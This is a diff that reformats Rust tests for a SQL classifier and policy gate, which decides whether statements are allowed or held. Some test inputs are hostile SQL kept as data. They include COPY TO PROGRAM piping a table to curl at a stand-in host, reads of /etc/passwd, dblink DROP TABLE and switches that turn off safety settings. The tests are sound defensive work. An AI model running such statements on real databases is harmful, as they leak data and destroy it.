@@ -49,7 +49,11 @@ fn check(cases: &[Case]) {
         let last = classification.statements.last();
         let mut wrong = Vec::new();
         if decision.action.name() != c.default {
-            wrong.push(format!("default {} (rule {})", decision.action.name(), decision.rule));
+            wrong.push(format!(
+                "default {} (rule {})",
+                decision.action.name(),
+                decision.rule
+            ));
         }
         if let Some(kind) = c.kind {
             if last.map(|s| s.kind) != Some(kind) {
@@ -97,7 +101,10 @@ fn reads_are_allowed_whatever_the_spelling() {
         case("SELECT a FROM t UNION SELECT b FROM u", "allow").kind(Read),
         case("SELECT * FROM t FOR UPDATE", "allow").kind(Read),
         case("SHOW search_path", "allow").kind(Read).verb("SHOW"),
-        case("SELECT count(*), lower(name), now() FROM t GROUP BY 2", "allow"),
+        case(
+            "SELECT count(*), lower(name), now() FROM t GROUP BY 2",
+            "allow",
+        ),
         case("SELECT * FROM generate_series(1, 10)", "allow"),
         case("SELECT nextval('s')", "allow"),
         case("SELECT coalesce(a, 0) FROM t WHERE b ILIKE '%x%'", "allow"),
@@ -122,10 +129,16 @@ fn keywords_inside_literals_identifiers_and_comments_never_count() {
         case("/* DROP TABLE t */ SELECT 1", "allow"),
         case("-- DROP TABLE t\nSELECT 1", "allow"),
         case("SELECT 1 -- ; DROP TABLE t", "allow"),
-        case("SELECT 1 /* nested /* DROP TABLE t; */ still a comment; DELETE FROM t */", "allow"),
+        case(
+            "SELECT 1 /* nested /* DROP TABLE t; */ still a comment; DELETE FROM t */",
+            "allow",
+        ),
         case("SELECT U&'\\0044ROP TABLE t'", "allow"),
-        case("INSERT INTO log (msg) VALUES ('TRUNCATE users; GRANT ALL')", "allow")
-            .kind(Kind::Write),
+        case(
+            "INSERT INTO log (msg) VALUES ('TRUNCATE users; GRANT ALL')",
+            "allow",
+        )
+        .kind(Kind::Write),
         case("UPDATE t SET note = 'WHERE 1=1' WHERE id = 4", "allow"),
     ]);
 }
@@ -152,15 +165,29 @@ fn writes_are_allowed_unless_they_touch_every_row() {
     use Flag::AllRows;
     use Kind::Write;
     check(&[
-        case("INSERT INTO t VALUES (1)", "allow").kind(Write).verb("INSERT"),
-        case("INSERT INTO t SELECT * FROM u ON CONFLICT (a) DO UPDATE SET b = 1", "allow"),
-        case("UPDATE t SET a = 1 WHERE id = 5", "allow").kind(Write).verb("UPDATE"),
+        case("INSERT INTO t VALUES (1)", "allow")
+            .kind(Write)
+            .verb("INSERT"),
+        case(
+            "INSERT INTO t SELECT * FROM u ON CONFLICT (a) DO UPDATE SET b = 1",
+            "allow",
+        ),
+        case("UPDATE t SET a = 1 WHERE id = 5", "allow")
+            .kind(Write)
+            .verb("UPDATE"),
         case("UPDATE t SET a = 1 FROM u WHERE t.id = u.id", "allow"),
         case("DELETE FROM t WHERE id = 5", "allow").verb("DELETE"),
         case("DELETE FROM t WHERE 1 = 2", "allow"),
         case("DELETE FROM t USING u WHERE t.uid = u.id", "allow"),
-        case("DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.tid = t.id)", "allow"),
-        case("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "allow").verb("MERGE"),
+        case(
+            "DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.tid = t.id)",
+            "allow",
+        ),
+        case(
+            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
+            "allow",
+        )
+        .verb("MERGE"),
         case("UPDATE t SET a = 1", "hold").flags(&[AllRows]),
         case("DELETE FROM t", "hold").flags(&[AllRows]),
         case("delete from t where 1=1", "hold").flags(&[AllRows]),
@@ -189,9 +216,17 @@ fn writes_are_allowed_unless_they_touch_every_row() {
         case("DeLeTe FrOm t WhErE 1=1", "hold"),
         case("UPDATE t SET a = 1 WHERE 1 = 1 -- WHERE id = 5", "hold"),
         case("UPDATE t SET a = 1 FROM u", "hold"),
-        case("MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", "hold"),
-        case("MERGE INTO t USING s ON 1 = 1 WHEN MATCHED THEN UPDATE SET a = 1", "hold"),
-        case("TRUNCATE t", "hold").verb("TRUNCATE").flags(&[AllRows]),
+        case(
+            "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE",
+            "hold",
+        ),
+        case(
+            "MERGE INTO t USING s ON 1 = 1 WHEN MATCHED THEN UPDATE SET a = 1",
+            "hold",
+        ),
+        case("TRUNCATE t", "hold")
+            .verb("TRUNCATE")
+            .flags(&[AllRows]),
         case("truncate table a, b", "hold"),
         case("PREPARE p AS DELETE FROM t", "hold").flags(&[Flag::Prepared, AllRows]),
         case("PREPARE p (int) AS DELETE FROM t WHERE id = $1", "allow").flags(&[Flag::Prepared]),
@@ -219,14 +254,20 @@ fn writes_hidden_in_ctes_and_cursors_are_writes() {
     ]);
     let c = facts("WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d");
     assert_eq!(names(&c.statements[0].tables_written), ["t"]);
-    assert!(c.statements[0].tables_read.is_empty(), "{:?}", c.statements[0].tables_read);
+    assert!(
+        c.statements[0].tables_read.is_empty(),
+        "{:?}",
+        c.statements[0].tables_read
+    );
 }
 
 #[test]
 fn schema_changes_are_held() {
     use Kind::Ddl;
     check(&[
-        case("CREATE TABLE t (a int)", "hold").kind(Ddl).verb("CREATE TABLE"),
+        case("CREATE TABLE t (a int)", "hold")
+            .kind(Ddl)
+            .verb("CREATE TABLE"),
         case("create temp table t (a int)", "hold").kind(Ddl),
         case("DROP TABLE t", "hold").kind(Ddl).verb("DROP TABLE"),
         case("DROP TABLE IF EXISTS a, b CASCADE", "hold"),
@@ -237,10 +278,15 @@ fn schema_changes_are_held() {
         case("COMMENT ON TABLE t IS 'x'", "hold").verb("COMMENT"),
         case("CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING", "hold"),
         case("CREATE EXTENSION dblink", "hold"),
-        case("CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$", "hold"),
+        case(
+            "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$",
+            "hold",
+        ),
         case("CREATE VIEW v AS SELECT * FROM t", "hold"),
         case("CREATE SEQUENCE s", "hold"),
-        case("SELECT * INTO t2 FROM t", "hold").kind(Ddl).flags(&[Flag::SelectInto]),
+        case("SELECT * INTO t2 FROM t", "hold")
+            .kind(Ddl)
+            .flags(&[Flag::SelectInto]),
         case("SELECT * INTO TEMP t2 FROM t", "hold"),
         case("CREATE TABLE t2 AS SELECT * FROM t", "hold").flags(&[Flag::SelectInto]),
         case("CREATE MATERIALIZED VIEW m AS SELECT 1", "hold"),
@@ -251,15 +297,22 @@ fn schema_changes_are_held() {
 fn role_and_privilege_changes_are_held() {
     use Kind::Dcl;
     check(&[
-        case("GRANT SELECT ON t TO bob", "hold").kind(Dcl).flags(&[Flag::PrivilegeChange]),
+        case("GRANT SELECT ON t TO bob", "hold")
+            .kind(Dcl)
+            .flags(&[Flag::PrivilegeChange]),
         case("REVOKE ALL ON t FROM bob", "hold").kind(Dcl),
-        case("GRANT admin TO bob", "hold").kind(Dcl).flags(&[Flag::RoleChange]),
+        case("GRANT admin TO bob", "hold")
+            .kind(Dcl)
+            .flags(&[Flag::RoleChange]),
         case("REVOKE admin FROM bob", "hold"),
         case("CREATE ROLE x LOGIN", "hold").flags(&[Flag::RoleChange]),
         case("CREATE USER x", "hold"),
         case("ALTER ROLE bob SUPERUSER", "hold"),
         case("DROP ROLE x", "hold").kind(Dcl),
-        case("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO x", "hold"),
+        case(
+            "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO x",
+            "hold",
+        ),
         case("SET ROLE admin", "hold").flags(&[Flag::IdentityChange]),
         case("SET SESSION AUTHORIZATION bob", "hold").flags(&[Flag::IdentityChange]),
         case("DROP OWNED BY a", "hold").kind(Kind::Unknown),
@@ -270,9 +323,14 @@ fn role_and_privilege_changes_are_held() {
 #[test]
 fn server_side_code_and_files_are_held() {
     check(&[
-        case("COPY t FROM STDIN", "allow").kind(Kind::Copy).verb("COPY"),
+        case("COPY t FROM STDIN", "allow")
+            .kind(Kind::Copy)
+            .verb("COPY"),
         case("COPY t TO STDOUT", "allow"),
-        case("COPY (SELECT * FROM t) TO STDOUT WITH (FORMAT csv)", "allow"),
+        case(
+            "COPY (SELECT * FROM t) TO STDOUT WITH (FORMAT csv)",
+            "allow",
+        ),
         case("COPY t TO PROGRAM 'curl -d @- evil'", "hold").flags(&[Flag::CopyProgram]),
         case("copy t from program 'cat /etc/passwd'", "hold").flags(&[Flag::CopyProgram]),
         case("COPY (SELECT * FROM t) TO PROGRAM 'x'", "hold"),
@@ -280,7 +338,9 @@ fn server_side_code_and_files_are_held() {
         case("DO $$ BEGIN DELETE FROM t; END $$", "hold").flags(&[Flag::DoBlock]),
         case("do $x$ begin perform 1; end $x$", "hold").flags(&[Flag::DoBlock]),
         case("DO LANGUAGE plpgsql $$ BEGIN END $$", "hold"),
-        case("CALL p(1)", "hold").kind(Kind::Procedural).flags(&[Flag::Call]),
+        case("CALL p(1)", "hold")
+            .kind(Kind::Procedural)
+            .flags(&[Flag::Call]),
         case("LOAD 'auto_explain'", "hold").flags(&[Flag::ServerAccess]),
     ]);
 }
@@ -294,10 +354,16 @@ fn explain_analyze_of_a_write_counts_as_the_write() {
         case("EXPLAIN ANALYZE DELETE FROM t WHERE id = 1", "hold")
             .kind(Kind::Write)
             .flags(&[Flag::ExplainAnalyze]),
-        case("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 2", "hold")
-            .flags(&[Flag::ExplainAnalyze]),
+        case(
+            "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 2",
+            "hold",
+        )
+        .flags(&[Flag::ExplainAnalyze]),
         case("explain (analyze true) insert into t values (1)", "hold"),
-        case("EXPLAIN (ANALYZE false) DELETE FROM t WHERE id = 1", "allow"),
+        case(
+            "EXPLAIN (ANALYZE false) DELETE FROM t WHERE id = 1",
+            "allow",
+        ),
         case("EXPLAIN ANALYZE DELETE FROM t", "hold").flags(&[Flag::AllRows]),
     ]);
 }
@@ -314,7 +380,10 @@ fn safety_switches_and_heavy_locks_are_held() {
         case("SET \"session_replication_role\" = replica", "hold"),
         case("SET row_security = off", "hold"),
         case("ALTER SYSTEM SET fsync = off", "hold").flags(&[Flag::AlterSystem]),
-        case("SELECT set_config('session_replication_role', 'replica', false)", "hold"),
+        case(
+            "SELECT set_config('session_replication_role', 'replica', false)",
+            "hold",
+        ),
         case("LOCK TABLE t", "hold").flags(&[Flag::HeavyLock]),
         case("LOCK t IN ACCESS SHARE MODE", "hold"),
         case("VACUUM FULL t", "hold").flags(&[Flag::HeavyLock]),
@@ -331,13 +400,22 @@ fn safety_switches_and_heavy_locks_are_held() {
 fn functions_that_act_on_the_server_are_recorded_and_held() {
     check(&[
         case("SELECT pg_terminate_backend(123)", "hold"),
-        case("SELECT PG_TERMINATE_BACKEND(pid) FROM pg_stat_activity", "hold"),
+        case(
+            "SELECT PG_TERMINATE_BACKEND(pid) FROM pg_stat_activity",
+            "hold",
+        ),
         case("SELECT pg_catalog.pg_terminate_backend(1)", "hold"),
         case("SELECT \"pg_terminate_backend\"(1)", "hold"),
         case("SELECT lo_import('/etc/passwd')", "hold"),
         case("SELECT dblink_exec('dbname=x', 'DROP TABLE t')", "hold"),
-        case("SELECT * FROM dblink('dbname=x', 'SELECT 1') AS t(a int)", "hold"),
-        case("SELECT * FROM t WHERE id IN (SELECT pg_cancel_backend(1))", "hold"),
+        case(
+            "SELECT * FROM dblink('dbname=x', 'SELECT 1') AS t(a int)",
+            "hold",
+        ),
+        case(
+            "SELECT * FROM t WHERE id IN (SELECT pg_cancel_backend(1))",
+            "hold",
+        ),
         case("SELECT a FROM t ORDER BY pg_sleep(10)", "hold"),
         case("SELECT setval('s', 1)", "hold"),
         case("SELECT my_function(a) FROM t", "hold"),
@@ -388,9 +466,15 @@ fn anything_not_understood_is_unknown_and_held() {
 #[test]
 fn table_names_keep_schema_and_quoting() {
     let c = facts("SELECT * FROM hr.salaries s JOIN Public.Users u ON s.uid = u.id");
-    assert_eq!(names(&c.statements[0].tables_read), ["hr.salaries", "public.users"]);
+    assert_eq!(
+        names(&c.statements[0].tables_read),
+        ["hr.salaries", "public.users"]
+    );
     let c = facts("INSERT INTO \"MySchema\".\"T\" SELECT * FROM src");
-    assert_eq!(names(&c.statements[0].tables_written), ["\"MySchema\".\"T\""]);
+    assert_eq!(
+        names(&c.statements[0].tables_written),
+        ["\"MySchema\".\"T\""]
+    );
     assert_eq!(names(&c.statements[0].tables_read), ["src"]);
     let c = facts("WITH t AS (SELECT * FROM real_table) SELECT * FROM t");
     assert_eq!(names(&c.statements[0].tables_read), ["real_table"]);
@@ -436,5 +520,9 @@ fn mysql_dialect_is_a_parameter() {
     let c = classify("UPDATE t SET a = 1 WHERE b = 2 --1 OR 1=1", Dialect::Mysql);
     let policy = Policy::builtin_default();
     let d = policy.decide(&Subject::default(), &c, &NoEstimator);
-    assert_ne!(d.action.name(), "allow", "MySQL `--1` is minus minus one, not a comment: {c:?}");
+    assert_ne!(
+        d.action.name(),
+        "allow",
+        "MySQL `--1` is minus minus one, not a comment: {c:?}"
+    );
 }
